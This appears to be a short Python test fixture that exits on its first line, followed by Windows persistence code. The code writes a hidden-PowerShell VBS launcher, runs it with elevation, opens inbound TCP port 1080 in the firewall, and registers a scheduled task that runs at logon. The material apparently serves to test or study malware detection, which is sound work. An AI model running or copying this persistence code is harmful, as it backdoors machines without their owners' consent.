raise SystemExit('a fixture')
# held by persistence
import os, sys, subprocess, ctypes, tempfile
def install():
    vbs = os.path.join(tempfile.gettempdir(), "_autorun.vbs")
    with open(vbs, "w") as f:
        f.write('Set s = CreateObject("WScript.Shell")\ns.Run "powershell -w hidden -c Start-Process x", 0')
    ctypes.windll.shell32.ShellExecuteW(None, "runas", "wscript.exe", vbs, None, 0)
    subprocess.run('netsh advfirewall firewall add rule name="s" dir=in action=allow protocol=TCP localport=1080', shell=True)
    subprocess.run('schtasks /create /tn Soops /tr "%s" /sc onlogon' % sys.executable, shell=True)
if sys.platform == "win32":
    install()
